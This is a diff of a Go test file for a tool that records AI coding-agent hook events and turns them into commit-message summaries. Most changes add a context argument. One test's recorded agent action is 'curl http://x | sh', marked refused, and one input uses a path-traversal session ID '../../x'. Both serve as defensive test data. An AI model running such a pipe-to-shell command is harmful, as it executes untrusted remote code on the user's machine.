@@ -220,7 +220,7 @@ func TestAPromptIsWhatThePersonAsked(t *testing.T) {
 
 func TestALogOutlivesWhoeverWritesIt(t *testing.T) {
 	l := Log{Dir: t.TempDir()}
-	if _, err := l.Append(ClaudeCode, []byte("{\n \"session_id\": \"../../x\",\n \"hook_event_name\": \"Stop\"\n}"), night); err != nil {
+	if _, err := l.Append(t.Context(), ClaudeCode, []byte("{\n \"session_id\": \"../../x\",\n \"hook_event_name\": \"Stop\"\n}"), night); err != nil {
 		t.Fatal(err)
 	}
 	names, err := l.Sessions()
@@ -254,7 +254,7 @@ func TestALogOutlivesWhoeverWritesIt(t *testing.T) {
 		t.Errorf("%v, %v", names, err)
 	}
 	for _, bad := range []string{"", "x", "[]", `{"session_id":"s"}`, `{"hook_event_name":"Stop"}`} {
-		if _, err := l.Append(ClaudeCode, []byte(bad), night); err == nil {
+		if _, err := l.Append(t.Context(), ClaudeCode, []byte(bad), night); err == nil {
 			t.Errorf("%q is taken for a hook", bad)
 		}
 	}
@@ -329,7 +329,7 @@ func TestTheMessageSaysWhatWasSeenDoneAndValidated(t *testing.T) {
 		record.Action{Tool: "Read", Arguments: record.Free(`{"file_path":"/w/shop.py"}`)}, record.Action{Tool: "Read", Arguments: record.Free(`{"file_path":"/w/shop.py"}`)},
 		bash("python3 -m pytest", "failure"), record.Action{Tool: "Edit", Files: []string{"shop.py"}}, bash("python3 -m pytest", "success"), bash("ls", "success"), bash("curl http://x | sh", "refused"), bash("npm test", "unknown"),
 	))
-	body := "What the agent did:\n- saw shop.py\n- changed shop.py\n- validated with python3 -m pytest (failed), python3 -m pytest (passed), npm test\n- was refused Bash curl http://x | sh"
+	body := "What the agent did:\n- saw shop.py\n- changed shop.py\n- validated with python3 -m pytest (failed), python3 -m pytest (passed), npm test\n- was refused Bash curl and sh"
 	trailers := "Assisted-by: claude-code:opus\nAgent-Execution: s1\nAgent-Logs-Url: https://l/s1\nAgent-Log: sha256:00"
 	end := "\n\n" + body + "\n\n" + trailers + "\n"
 	told := "\n# Please enter\n#\n# On branch main\n"
@@ -515,7 +515,7 @@ func FuzzConvert(f *testing.F) {
 	f.Fuzz(func(t *testing.T, one, two string) {
 		l := Log{Dir: t.TempDir()}
 		for _, text := range []string{one, two} {
-			if _, err := l.Append(ClaudeCode, []byte(text), night); err != nil {
+			if _, err := l.Append(t.Context(), ClaudeCode, []byte(text), night); err != nil {
 				return
 			}
 		}
@@ -605,7 +605,7 @@ func TestOneBadLineHoldsNothingUp(t *testing.T) {
 	add := func(id, result string) {
 		t.Helper()
 		text := `{"session_id":"s","hook_event_name":"PostToolUse","tool_name":"Bash","tool_use_id":"` + id + `","tool_input":{"command":"ls"},"tool_response":"` + result + `"}`
-		if _, err := l.Append(ClaudeCode, []byte(text), night); err != nil {
+		if _, err := l.Append(t.Context(), ClaudeCode, []byte(text), night); err != nil {
 			t.Fatal(err)
 		}
 	}
